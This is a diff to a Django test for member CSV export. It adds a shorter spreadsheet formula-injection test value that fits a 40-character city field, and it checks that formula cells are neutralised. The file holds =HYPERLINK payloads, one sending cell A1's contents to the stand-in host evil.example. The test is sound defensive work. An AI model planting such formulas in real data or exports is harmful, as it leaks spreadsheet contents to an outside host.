@@ -16,6 +16,7 @@ from tests.conftest import make_topic
 from tests.portal.conftest import staff_with
 
 PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"点击领取")'
+CITY = '=HYPERLINK("http://e.x","上海")'  # fits the 40-character city field
 TZ = timezone.get_fixed_timezone(480)
 
 
@@ -56,7 +57,7 @@ def test_csv_writer_and_xlsx_append_share_the_rule():
 
 
 def test_member_csv_export_neutralises_a_formula_city(client, member):
-    MemberProfile.objects.filter(user=member).update(mobile="13812341234", city=PAYLOAD)
+    MemberProfile.objects.filter(user=member).update(mobile="13812341234", city=CITY)
     exporter = staff_with("view_memberprofile", "export_members", username="exporter")
     client.force_login(exporter)
 
@@ -65,7 +66,7 @@ def test_member_csv_export_neutralises_a_formula_city(client, member):
     rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
     city = rows[0].index("city")
     row = next(r for r in rows[1:] if r[1] == member.username)
-    assert row[city] == "'" + PAYLOAD
+    assert row[city] == "'" + CITY
     assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
 
 
